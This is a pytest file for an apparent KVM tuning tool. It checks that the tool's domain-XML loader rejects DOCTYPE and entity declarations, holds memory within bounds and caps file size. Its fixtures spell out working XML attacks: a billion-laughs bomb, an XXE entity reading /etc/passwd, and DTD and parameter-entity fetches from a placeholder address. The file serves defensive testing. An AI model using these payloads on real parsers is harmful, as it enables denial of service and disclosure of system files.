"""Hostile XML is refused before any expansion, fetch or large allocation."""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from kvmtune.domain.xml import load_guest_file
from kvmtune.errors import InputError

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<domain type='kvm'><name>&lol9;</name></domain>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE domain [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<domain type='kvm'><name>&xxe;</name></domain>
"""

# 198.18.0.0/15 is reserved for benchmarking: nothing there would answer, and nothing is sent.
DTD_FETCH = """<?xml version="1.0"?>
<!DOCTYPE domain SYSTEM "http://198.18.0.1/domain.dtd">
<domain type='kvm'><name>fetch</name></domain>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE domain [ <!ENTITY % remote SYSTEM "http://198.18.0.1/evil.dtd"> %remote; ]>
<domain type='kvm'><name>pe</name></domain>
"""


@pytest.mark.parametrize(
    ("name", "text"),
    [("laughs", BILLION_LAUGHS), ("xxe", EXTERNAL_ENTITY), ("dtd", DTD_FETCH), ("param", PARAMETER_ENTITY)],
)
def test_refused_with_line(tmp_path: Path, name: str, text: str) -> None:
    f = tmp_path / f"{name}.xml"
    f.write_text(text)
    with pytest.raises(InputError) as info:
        load_guest_file(f)
    assert "DOCTYPE/ENTITY declarations are refused" in str(info.value)
    assert info.value.line == 2
    assert str(info.value).startswith(f"{f}:2:")


def test_billion_laughs_in_bounded_memory(tmp_path: Path) -> None:
    """Under a 512 MiB address-space limit the refusal happens and the process stays small."""
    f = tmp_path / "laughs.xml"
    f.write_text(BILLION_LAUGHS)
    code = textwrap.dedent(f"""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (512 << 20, 512 << 20))
        from kvmtune.cli import main
        rc = main(["audit", "--format", "json", {str(f)!r}])
        # this process's own peak: VmHWM of the image exec made. Not ru_maxrss, which Linux carries over exec from
        # the process that started it (the pytest process, hundreds of MiB late in a run): an order dependence
        hwm = [line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM:")][0]
        print("maxrss_kib", hwm, file=sys.stderr)
        sys.exit(rc)
    """)
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode == 2, proc.stderr
    assert "DOCTYPE/ENTITY declarations are refused" in proc.stderr
    maxrss = int(proc.stderr.split("maxrss_kib")[1].split()[0])
    assert 0 < maxrss < 200 * 1024


def test_entity_in_text_without_doctype_is_not_expanded(tmp_path: Path) -> None:
    f = tmp_path / "undeclared.xml"
    f.write_text("<domain type='kvm'><name>&undeclared;</name></domain>")
    with pytest.raises(InputError) as info:
        load_guest_file(f)
    assert "malformed XML" in str(info.value)


def test_oversized_file_refused(tmp_path: Path) -> None:
    f = tmp_path / "big.xml"
    with open(f, "wb") as fh:
        fh.write(b"<domain type='kvm'><name>big</name><description>")
        fh.write(b"x" * (17 * 1024 * 1024))
        fh.write(b"</description></domain>")
    with pytest.raises(InputError, match="larger than 16 MiB"):
        load_guest_file(f)
